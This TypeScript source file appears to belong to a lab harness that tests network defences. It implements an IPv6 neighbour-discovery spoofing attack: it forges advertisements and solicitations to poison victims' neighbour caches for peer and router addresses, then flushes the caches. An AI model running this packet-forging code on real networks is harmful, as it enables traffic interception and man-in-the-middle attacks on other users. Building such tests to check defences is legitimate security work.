// SPDX-License-Identifier: Apache-2.0
import { groupMac, neighbourAdvertisement, neighbourSolicitation } from "../../lab/packet.ts";
import type { Attack } from "../attack.ts";
import { allNodes, anyOf, believed, linkLocal, says, solicitedNode } from "../evidence.ts";
import type { Party, Station } from "../field.ts";

/** Advertisements change what the victim knows; a solicitation in the owner's name makes it know. */
function lies(attacker: Party, owner: Party, victim: Party): Uint8Array[] {
  const group = solicitedNode(victim.v6);
  const [one, all] = [{ from: attacker.mac, to: victim.mac }, { from: attacker.mac, to: allNodes.mac }];
  return [
    neighbourAdvertisement(one, attacker.v6, victim.v6, owner.v6, attacker.mac), neighbourAdvertisement(one, linkLocal(attacker), victim.v6, owner.v6, attacker.mac),
    neighbourAdvertisement(all, attacker.v6, allNodes.ip, owner.v6, attacker.mac), neighbourAdvertisement(one, owner.v6, victim.v6, owner.v6, attacker.mac),
    neighbourSolicitation(one, owner.v6, victim.v6, victim.v6), neighbourSolicitation({ from: attacker.mac, to: groupMac(group) }, owner.v6, group, victim.v6),
  ];
}

const poisoned = (attacker: Party, owner: Party, victim: Station): Promise<boolean> =>
  believed(attacker, lies(attacker, owner, victim), () => says(victim, ["ip", "-6", "neigh", "show", owner.v6], attacker.mac));

export const ndSpoofing: Attack = {
  slug: "nd-spoofing",
  needs: "a place on the network",
  gains: "as arp-spoofing, over IPv6",
  stoppedBy: "sender and binding: target, source and link-layer address of neighbour discovery are the sender's own",
  run: async (field) => {
    const { attacker, victim, peer, distant, router } = field;
    try {
      return await anyOf(field, {
        "peer to victim": poisoned(attacker, peer, victim), "router to victim": poisoned(attacker, router, victim), "router to distant": poisoned(attacker, router, distant),
      });
    } finally {
      await Promise.all([victim, distant].map((station) => station.run(["ip", "-6", "neigh", "flush", "all"])));
    }
  },
};
